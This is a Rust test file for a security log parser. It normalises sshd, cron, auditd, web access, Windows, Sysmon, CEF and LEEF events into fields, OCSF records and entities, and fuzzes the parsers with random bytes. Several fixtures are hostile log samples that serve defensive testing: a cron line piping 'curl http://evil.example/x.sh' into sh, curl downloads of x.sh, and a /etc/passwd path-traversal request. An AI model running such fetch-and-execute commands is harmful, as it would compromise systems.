//! One event of each kind, from bytes to fields, facts and entities; and bytes that nobody should be able to break us with.

use proptest::prelude::*;

use super::normalise_parts;
use crate::recognise;

fn check(line: &str) -> String {
    check_as(line, None)
}

fn check_as(line: &str, hint: Option<&str>) -> String {
    let seen = recognise(line.as_bytes(), hint);
    let (normalised, problem) = normalise_parts(&seen.source, seen.format, line.as_bytes());
    let source = &normalised.log_source;
    let entities: Vec<String> = normalised.entities.iter().map(ToString::to_string).collect();
    let ocsf = serde_json::to_string(&normalised.ocsf).unwrap();
    format!(
        "{} {} | {} {} {}\n{}\n{}\n{}\n{}",
        seen.source,
        seen.format,
        source.product.as_deref().unwrap_or("-"),
        source.categories.join("+"),
        source.service.as_deref().unwrap_or("-"),
        normalised.flat,
        ocsf,
        entities.join(" "),
        problem.map_or_else(|| "fine".to_owned(), |problem| problem.to_string()),
    )
}

#[test]
fn an_sshd_line_is_a_logon() {
    insta::assert_snapshot!(check(
        "2026-11-21T11:59:01.5+00:00 WEB1 sshd[812]: Failed password for invalid user admin from ::ffff:203.0.113.9 port 52100 ssh2"
    ));
}

#[test]
fn an_application_of_ones_own_is_the_product_and_service_that_its_source_is_called() {
    let source = |line: &str, hint: Option<&str>| {
        let seen = recognise(line.as_bytes(), hint);
        let found = normalise_parts(&seen.source, seen.format, line.as_bytes()).0.log_source;
        (found.product.unwrap_or_default(), found.categories, found.service.unwrap_or_default())
    };
    let acme = ("acme".to_owned(), Vec::new(), "acme".to_owned());
    assert_eq!(source(r#"{"act":"boom"}"#, Some(" Acme ")), acme);
    assert_eq!(source("boom", Some("acme")), acme);
    assert_eq!(source(r#"{"act":"boom"}"#, None), Default::default(), "nobody says what it is");
    assert_eq!(
        source(r#"{"Image":"/bin/sh","CommandLine":"sh"}"#, Some("acme")).0,
        "linux",
        "it says itself what it is"
    );
}

#[test]
fn a_url_is_an_entity_in_whatever_event_has_one() {
    let found = check(r#"{"msg":"x","url":"http://x.example/a"}"#);
    assert!(found.contains("domain:x.example url:http://x.example/a"), "{found}");
    assert!(!check(r#"{"msg":"x","url":"/a"}"#).contains("http"), "a path is none");
}

#[test]
fn a_line_inside_json_is_the_same_event_with_the_outer_host() {
    insta::assert_snapshot!(check(
        r#"{"message":"Accepted password for root from 203.0.113.9 port 52101 ssh2","source":"sshd","host":"Web1","pid":900,"team":"a"}"#
    ));
}

#[test]
fn a_journal_entry_is_a_syslog_event() {
    insta::assert_snapshot!(check(
        r#"{"__REALTIME_TIMESTAMP":"1795262341000000","_HOSTNAME":"web1","SYSLOG_IDENTIFIER":"sudo","_PID":"77","_TRANSPORT":"syslog","MESSAGE":"bob : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl http://203.0.113.9/x.sh"}"#
    ));
}

#[test]
fn a_cron_line_is_a_scheduled_job() {
    insta::assert_snapshot!(check("Nov 21 11:59:01 web1 CRON[77]: (root) CMD (curl -s http://evil.example/x.sh | sh)"));
}

#[test]
fn an_access_line_is_an_http_request() {
    insta::assert_snapshot!(check(
        r#"203.0.113.9 - - [21/Nov/2026:12:00:01 +0000] "GET /../../etc/passwd?x=%27 HTTP/1.1" 404 162 "-" "curl/8""#
    ));
}

#[test]
fn an_execve_is_a_process_that_was_launched() {
    insta::assert_snapshot!(check(concat!(
        "node=Web1 type=SYSCALL msg=audit(1795262341.123:4711): arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=901 auid=1000 uid=0 ses=3 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"\n",
        "node=Web1 type=EXECVE msg=audit(1795262341.123:4711): argc=2 a0=\"curl\" a1=\"http://203.0.113.9/x.sh\"\n",
        "node=Web1 type=CWD msg=audit(1795262341.123:4711): cwd=\"/tmp\"",
    )));
}

#[test]
fn audit_records_in_one_object_are_one_event_with_all_of_them() {
    let record = |kind: &str, rest: &str| format!("type={kind} msg=audit(1795262300.1:7): {rest}");
    let records = [
        record("SYSCALL", "arch=c000003e syscall=59 success=yes pid=9 uid=0 auid=1000 exe=\"/usr/bin/curl\""),
        record("EXECVE", "argc=2 a0=\"curl\" a1=\"http://203.0.113.9/x\""),
        record("PATH", "item=0 name=\"/usr/bin/curl\" nametype=NORMAL"),
    ];
    let line = serde_json::json!({"host": "web-01", "message": records.join("\n")}).to_string();
    let shown = check(&line);
    assert!(shown.contains(r#""CommandLine":"curl http://203.0.113.9/x""#), "{shown}");
    assert!(shown.contains(r#""type":["SYSCALL","EXECVE","PATH"]"#), "{shown}");
    assert!(shown.contains("process_creation"), "{shown}");
}

#[test]
fn a_file_written_under_cron_is_a_file_event() {
    insta::assert_snapshot!(check(concat!(
        "{\"message\":\"type=SYSCALL msg=audit(1795262341.123:4712): arch=c000003e syscall=257 success=yes exit=3 a2=241 pid=901 auid=4294967295 uid=0 ses=4294967295 comm=\\\"sh\\\" exe=\\\"/usr/bin/dash\\\"\",\"host\":\"web1\"}\n",
        "{\"message\":\"type=CWD msg=audit(1795262341.123:4712): cwd=\\\"/etc\\\"\",\"host\":\"web1\"}\n",
        "{\"message\":\"type=PATH msg=audit(1795262341.123:4712): item=1 name=\\\"cron.d/x\\\" nametype=CREATE\",\"host\":\"web1\"}",
    )));
}

#[test]
fn a_failed_logon_of_windows_names_both_users() {
    insta::assert_snapshot!(check(
        r#"{"EventID":4625,"Channel":"Security","Computer":"DC1.corp.example","TargetUserName":"admin","SubjectUserName":"-","IpAddress":"203.0.113.9","IpPort":"50000","TargetLogonId":"0x0"}"#
    ));
}

#[test]
fn a_sysmon_process_has_parent_and_hashes() {
    insta::assert_snapshot!(check(
        r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"W1","ProcessId":7112,"Image":"C:\\Windows\\System32\\reg.exe","CommandLine":"reg query HKLM","User":"CORP\\bob","ParentProcessId":6304,"ParentImage":"C:\\Windows\\cmd.exe","Hashes":"MD5=EB20E119AAF500E2752DC5A588B54C12"}"#
    ));
}

#[test]
fn a_line_in_cef_has_its_keys_as_fields_and_says_who_met_whom() {
    let shown = check(concat!(
        "<134>Nov 21 11:59:01 fw1 CEF:0|Check Point|VPN-1 & FireWall|R81|drop|Blocked \\| dropped|7|src=203.0.113.9 spt=4711 dst=10.0.0.5 ",
        "dpt=22 dhost=db.example.com suser=eve duser=root requestMethod=GET request=http://db.example.com/?a\\=1&b=2 ",
        "fileHash=42893ADBC36605EC79B5BD610759947E outcome=failure msg=a try = a failure"
    ));
    for part in [
        "syslog syslog/1 | check_point  vpn_1___firewall",
        r#""name":"Blocked | dropped""#,
        r#""src":"203.0.113.9","spt":4711,"dst":"10.0.0.5","dpt":22"#,
        r#""request":"http://db.example.com/?a=1&b=2""#,
        r#""message":"a try = a failure","device":"fw1","actor_user":"eve","user":"root","src_ip":"203.0.113.9""#,
        r#""dst_ip":"10.0.0.5","dst_port":22,"dst_domain":"db.example.com""#,
        r#""class_name":"HTTP Activity""#,
        r#""status":"failure""#,
        "ip:10.0.0.5 ip:203.0.113.9 host:fw1",
        "\nfine",
    ] {
        assert!(shown.contains(part), "{part} is missing:\n{shown}");
    }
}

#[test]
fn a_line_in_leef_inside_json_is_network_traffic() {
    let shown = check(
        r#"{"host":"relay","message":"LEEF:2.0|Palo Alto Networks|PAN-OS|10|trojan|^|src=203.0.113.9^dst=10.0.0.5^srcPort=4711^dstPort=443^usrName=eve^devTime=Nov 21 2026 11:59:01"}"#,
    );
    for part in [
        "| palo_alto_networks  pan_os",
        r#""eventId":"trojan","src":"203.0.113.9""#,
        r#""class_name":"Network Activity""#,
        r#""device":"relay","actor_user":"eve""#,
        r#""src_port":4711"#,
        "\nfine",
    ] {
        assert!(shown.contains(part), "{part} is missing:\n{shown}");
    }
    assert!(check("CEF:0|V|P").ends_with("not_normalisable: a CEF header has seven fields, each ended by `|`"));
}

#[test]
fn a_device_tells_the_time_of_its_event() {
    let received = "2026-11-21T12:00:00Z".parse().unwrap();
    let time = |line: &str| {
        let seen = recognise(line.as_bytes(), None);
        crate::event_time(&seen, line.as_bytes(), received, &crate::Limits::default()).0.to_string()
    };
    let header = "<134>Nov 21 11:59:01 fw1 ";
    assert_eq!(time(&format!("{header}CEF:0|V|P|1|7|n|5|rt=1795262100250 src=1.2.3.4")), "2026-11-21T11:55:00.250000Z");
    assert_eq!(time("CEF:0|V|P|1|7|n|5|end=Nov 21 2026 11:55:00 src=1.2.3.4"), "2026-11-21T11:55:00.000000Z");
    assert_eq!(time("LEEF:1.0|V|P|1|7|src=1.2.3.4\tdevTime=1795262100250"), "2026-11-21T11:55:00.250000Z");
    assert_eq!(time(&format!("{header}CEF:0|V|P|1|7|n|5|rt=unknown")), "2026-11-21T11:59:01.000000Z");
}

#[test]
fn other_json_keeps_its_names_and_gives_what_it_says() {
    insta::assert_snapshot!(check(
        r#"{"Image":"/usr/bin/base64","CommandLine":"base64 -d /tmp/.x","User":"root","ParentImage":"/usr/bin/bash","host":"web1"}"#
    ));
    insta::assert_snapshot!(check(
        r#"{"source":{"ip":"203.0.113.9"},"destination":{"ip":"10.0.0.1","port":443},"host":{"name":"FW1"}}"#
    ));
}

#[test]
fn a_line_that_is_not_what_its_source_says_is_kept_with_the_reason() {
    insta::assert_snapshot!(check_as("no access line", Some("nginx")));
    insta::assert_snapshot!(check_as("words", Some("auth")));
}

const REAL: [&str; 10] = [
    "<38>1 2026-11-21T12:00:00.123Z web1 sshd 812 ID47 [ex@1 a=\"x\"] Failed password for root from 203.0.113.9 port 1 ssh2",
    "Nov 21 11:59:01 web1 sshd[812]: Failed password for invalid user admin from 203.0.113.9 port 52100 ssh2",
    "Nov 21 11:59:01 web1 sudo:  bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh -c id",
    "Nov 21 11:59:01 web1 usermod[1]: change user 'bob' shell from '/bin/sh' to '/bin/bash'",
    "203.0.113.9 - bob [21/Nov/2026:12:00:01 +0000] \"GET /a?b=%27 HTTP/1.1\" 404 162 \"-\" \"curl/8\"",
    "type=EXECVE msg=audit(1795262341.123:4711): argc=2 a0=\"curl\" a1=687474703A2F2F a2[0]=61\u{1d}UID=\"root\"",
    "type=USER_AUTH msg=audit(1795262341.5:12): pid=7 msg='op=PAM acct=\"bob\" addr=203.0.113.9 res=failed'",
    r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"P"}},"EventID":{"#text":4688},"Channel":"Security"},"EventData":{"Data":[{"@Name":"A","#text":"b"}]}}}"##,
    r#"{"message":"Nov 21 11:59:01 web1 sshd[812]: Accepted password for root from 203.0.113.9 port 1 ssh2","host":"web1"}"#,
    r#"{"winlog":{"event_id":"4625","channel":"Security","event_data":{"IpAddress":"203.0.113.9"}},"@timestamp":"2026-11-21T12:00:00Z"}"#,
];

fn everything(bytes: &[u8]) {
    use crate::{Hints, Limits, formats, prepare};
    let received = shieldops_model::Timestamp::from_secs(1_795_262_400);
    for hint in [None, Some("sshd"), Some("nginx"), Some("auditd"), Some("windows"), Some("auth")] {
        let seen = recognise(bytes, hint);
        let (normalised, _) = normalise_parts(&seen.source, seen.format, bytes);
        assert!(
            serde_json::from_str::<serde_json::Value>(&normalised.flat).is_ok_and(|flat| flat.is_object()),
            "{}",
            normalised.flat
        );
        let _ = crate::event_time(&seen, bytes, received, &Limits::default());
    }
    for format in [formats::SYSLOG, formats::ACCESS, formats::AUDIT, formats::WINDOWS, formats::JSON, formats::TEXT] {
        let _ = normalise_parts("x", format, bytes);
    }
    let body = bytes::Bytes::copy_from_slice(bytes);
    let hints = Hints { source: Some("x"), content_type: None };
    assert!(prepare(&body, hints, received, &Limits::default()).events.iter().all(|event| !event.raw.is_empty()));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn no_bytes_make_a_parser_panic(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        everything(&bytes);
    }

    #[test]
    fn no_broken_real_line_makes_a_parser_panic(
        line in prop::sample::select(REAL.to_vec()),
        edits in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0..3_u8), 1..8),
    ) {
        let mut bytes = line.as_bytes().to_vec();
        for (at, byte, what) in edits {
            if bytes.is_empty() {
                break;
            }
            let at = at.index(bytes.len());
            match what {
                0 => bytes[at] = byte,
                1 => bytes.truncate(at),
                _ => bytes.insert(at, b"\"'[]{}=: \\%"[usize::from(byte) % 11]),
            }
        }
        everything(&bytes);
    }
}
